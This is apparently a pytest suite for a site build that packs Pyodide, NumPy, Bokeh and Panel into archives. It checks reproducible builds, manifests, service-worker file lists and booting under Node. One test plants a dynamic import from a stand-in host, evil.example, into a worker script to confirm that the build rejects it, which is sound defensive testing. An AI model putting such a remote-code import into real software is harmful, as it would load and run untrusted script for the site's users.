"""The whole build: the same bytes from the same sources, and archives that boot."""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

import pytest

from web.sitebuild import assemble, output, site
from web.sitebuild.errors import BuildError
from web.sitebuild.packs import read_pack
from web.sitebuild.pins import load_pins
from web.sitebuild.runtime import Inputs, find_node, runtime_ready

ROOT = Path(__file__).parents[3]
CACHE = ROOT / ".cache"

PAGE = """<!doctype html><title>{{version}}</title><script src="asset:panel.min.js"></script>
<script type="application/json" id="boot-manifest">{{boot-manifest}}</script>
<script defer src="asset:kit.js" data-only="kit"></script>"""

START = """
import sys, types
import pyodide.code
pyodide.code.run_js = lambda source: None  # what the page's glue does too
stand_in = types.ModuleType("pyodide_http")
stand_in.patch_all = lambda: None
sys.modules["pyodide_http"] = stand_in
import importlib.metadata, importlib.resources, inspect, json, xml.etree.ElementTree, zipfile
import numpy as np
import bokeh.plotting
import panel as pn
from bokeh.document import Document

figure = bokeh.plotting.figure(width=300, height=200)
figure.line(np.arange(3.0), np.random.default_rng(1).normal(size=3))
document = Document()
select = pn.widgets.Select(options=["a"])
column = pn.Column(figure, select, pn.widgets.FloatInput(name="x"), pn.pane.HTML("y"))
column.server_doc(document)
import pycore.thing, web.thing
sources = [
    name for name, module in list(sys.modules.items())
    if str(getattr(module.__spec__, "origin", "")).endswith(".py") and not name.startswith("pycore")
]
json.dumps({
    "document": len(json.dumps(str(document.to_json()))),
    "solve": np.linalg.solve([[2.0, 0.0], [0.0, 4.0]], [1.0, 1.0]).tolist(),
    "bokeh": importlib.metadata.version("bokeh"),
    "loaded from source": sources,
    "pycore is readable": inspect.getsource(pycore.thing.answer),
    "pycore is compiled": pycore.thing.__cached__,
    "docstring stays": web.thing.__doc__,
    "left out": [name for name in ("tornado", "pandas", "PIL", "contourpy") if name in sys.modules],
})
"""


@pytest.fixture(scope="module")
def inputs() -> Inputs:
    """Return the downloaded files; `build.py test` has put them there."""
    prepared = Inputs(load_pins(Path(site.__file__).with_name("pins.toml")), CACHE)
    if (
        not runtime_ready(prepared.pins, prepared.runtime)
        or find_node(prepared.node_folder) is None
    ):
        pytest.skip("nothing is downloaded yet: run `python build.py build`")
    return prepared


def small_checkout(root: Path) -> Path:
    files = {
        "pyproject.toml": '[project]\nversion = "9.8.7"\n',
        "web/__init__.py": "",
        "web/thing.py": '"""What it is."""\n',
        "web/static/index.html": PAGE,
        "web/static/sw.js": "const x = SITE;\n",
        "web/static/sw-off.js": "2;\n",
        "web/static/manifest.webmanifest": '{"icons": []}',
        "web/page/README.md": "for people",
        "web/page/api.js": "4;\n",
        "web/page/commands.json": '{"calls": {"get": []}}',
        "web/README.md": "for people",
        "pycore/README.md": "for people",
        "web/bridge/worker.js": "1;\n",
        "web/bridge/page.js": "2;\n",
        "web/bridge/kit.js": "3;\n",
        "web/bridge/messages.json": '{"page_to_worker": {}}',
        "pycore/__init__.py": "",
        "pycore/thing.py": "def answer():\n    return {'b', 'a', 'c'} | {42}\n",
    }
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def built(inputs: Inputs, tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """Return a site whose third-party archives come from the checkout's caches where they are."""
    root = small_checkout(tmp_path_factory.mktemp("first"))
    return build(root, CACHE, inputs)


def build(root: Path, cache: Path, inputs: Inputs) -> dict[str, bytes]:
    return site.site_of(site.Builder(root, cache, inputs).parts())


@pytest.fixture(scope="module")
def booted(
    built: dict[str, bytes], inputs: Inputs, tmp_path_factory: pytest.TempPathFactory
) -> dict[str, object]:
    """Return what START says when the site's archives run under Node."""
    dist = tmp_path_factory.mktemp("dist")
    output.write(built, dist)
    script = Path(__file__).with_name("boot.js")
    result = subprocess.run(
        [str(inputs.node), str(script), str(dist), str(inputs.runtime), START],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    answer: dict[str, object] = json.loads(result.stdout)
    return answer


def test_the_worker_asks_for_all_scripts_of_the_bridge_but_the_page_s() -> None:
    """What boot.js puts together for the worker is in the manifest; each kind of page has one supplier."""
    bridge = ROOT / "web" / "bridge"
    text = (bridge / "boot.js").read_text(encoding="utf-8")
    (names,) = re.findall(r"workerScripts = \(\) => \[(.*?)\];", text, re.DOTALL)
    asked = {*re.findall(r'"([\w.]+)"', names), "from_site.js", "from_document.js"}
    there = {path.name for path in bridge.glob("*.js")}
    assert asked - set(site.RUNTIME_SCRIPTS) == there - set(site.PAGE_END)
    assert set(site.PAGE_END) <= there


def test_two_builds_in_different_folders_are_identical(
    built: dict[str, bytes], inputs: Inputs, tmp_path: Path
) -> None:
    root = small_checkout(tmp_path / "elsewhere" / "deeper")
    again = build(root, tmp_path / "empty-cache", inputs)
    assert sorted(again) == sorted(built)
    assert [name for name, content in again.items() if content != built[name]] == []


def test_a_rebuild_after_an_edit_changes_only_what_was_edited(
    built: dict[str, bytes], inputs: Inputs, tmp_path: Path
) -> None:
    root = small_checkout(tmp_path)
    (root / "web/thing.py").write_text('"""Something else."""\n', encoding="utf-8")
    again = build(root, CACHE, inputs)
    changed = {name for name in again if again[name] != built.get(name)}
    assert {name.split(".")[0] for name in changed} == {"assets/app", "index", "sw", "files"}


def test_no_readme_is_shipped(built: dict[str, bytes]) -> None:
    assert [name for name in built if "readme" in name.lower()] == []
    app = next(content for name, content in built.items() if name.startswith("assets/app."))
    paths = read_pack(app)
    assert any(path.endswith("pycore/thing.py") for path in paths)
    assert [path for path in paths if path.endswith(".md")] == []


def test_the_manifest_describes_its_files(built: dict[str, bytes]) -> None:
    page = built["index.html"].decode()
    text = page.split('id="boot-manifest">')[1].split("</script>")[0]
    manifest = json.loads(text)
    assert manifest["version"] == "9.8.7"
    assert manifest["messages"] == {"page_to_worker": {}}
    assert manifest["commands"] == {"calls": {"get": []}}
    assert set(manifest["assets"]) == {
        "app.pack",
        "libs.pack",
        "pyodide.asm.js",
        "pyodide.asm.wasm",
        "pyodide.js",
        "stdlib.pack",
        "worker.js",
    }
    for entry in manifest["assets"].values():
        assert len(built[entry["url"]]) == entry["bytes"]


def test_all_python_but_pycores_sources_is_compiled(built: dict[str, bytes]) -> None:
    packed = {name: read_pack(content) for name, content in built.items() if ".pack" in name}
    sources = [path for tree in packed.values() for path in tree if path.endswith(".py")]
    assert sorted(sources) == ["pycore/__init__.py", "pycore/thing.py"]


def test_the_site_holds_the_notices_and_no_surprises(built: dict[str, bytes]) -> None:
    notices = built["THIRD_PARTY_NOTICES"].decode()
    for words in (
        "Pyodide 0.29.0",
        "NumPy 2.2.5",
        "bokeh 3.9.2",
        "panel 1.9.4",
        "pyyaml",
        "jinja2",
    ):
        assert words in notices
    assert set(json.loads(built["files.json"])) == set(built) - {"files.json"}
    folders = {name.split("/")[0] for name in built}
    assert folders == {
        ".nojekyll",
        "THIRD_PARTY_NOTICES",
        "assets",
        "files.json",
        "index.html",
        "manifest.webmanifest",
        "sw-off.js",
        "sw.js",
    }
    assert not [name for name in built if name.startswith("assets/kit.")]
    assert [built[name] for name in built if name.startswith("assets/api.")] == [b"4;\n"]


def test_the_service_worker_lists_what_the_page_needs(built: dict[str, bytes]) -> None:
    """Every file of the site but what serves deployment, with its hash: a change of any changes the worker."""
    first, rest = built["sw.js"].decode().split("\n", 1)
    assert rest == "const x = SITE;\n"
    listed = json.loads(first.removeprefix("const SITE = ").removesuffix(";"))
    assert listed["version"] == "9.8.7"
    assert set(listed["files"]) == set(built) - {"sw.js", "sw-off.js", "files.json", ".nojekyll"}
    everything = json.loads(built["files.json"])
    assert all(everything[path] == entry for path, entry in listed["files"].items())


def test_python_that_does_not_compile_is_named(inputs: Inputs, tmp_path: Path) -> None:
    root = small_checkout(tmp_path)
    (root / "pycore/thing.py").write_text("def answer(:\n", encoding="utf-8")
    with pytest.raises(BuildError, match=r"pycore/thing\.py cannot be compiled.*line 1"):
        build(root, CACHE, inputs)


def test_a_planted_address_fails_the_whole_build(inputs: Inputs, tmp_path: Path) -> None:
    root = small_checkout(tmp_path)
    script = 'import("https://evil.example/x.js");'
    (root / "web/bridge/worker.js").write_text(script, encoding="utf-8")
    with pytest.raises(BuildError, match=r"worker\.js holds https://evil\.example"):
        build(root, CACHE, inputs)


def test_the_archives_boot_and_draw(booted: dict[str, object]) -> None:
    assert booted["solve"] == [0.5, 0.25]
    assert booted["bokeh"] == "3.9.2"
    assert isinstance(booted["document"], int)
    assert booted["document"] > 2000


def test_nothing_is_loaded_from_source_or_beyond_the_site(booted: dict[str, object]) -> None:
    assert booted["loaded from source"] == []
    assert booted["left out"] == []


def test_the_page_can_show_pycores_lines(booted: dict[str, object]) -> None:
    assert str(booted["pycore is readable"]).startswith("def answer():")
    assert str(booted["pycore is compiled"]).endswith(
        f"pycore/__pycache__/thing.{assemble.CACHE_TAG}.pyc"
    )
    assert booted["docstring stays"] == "What it is."
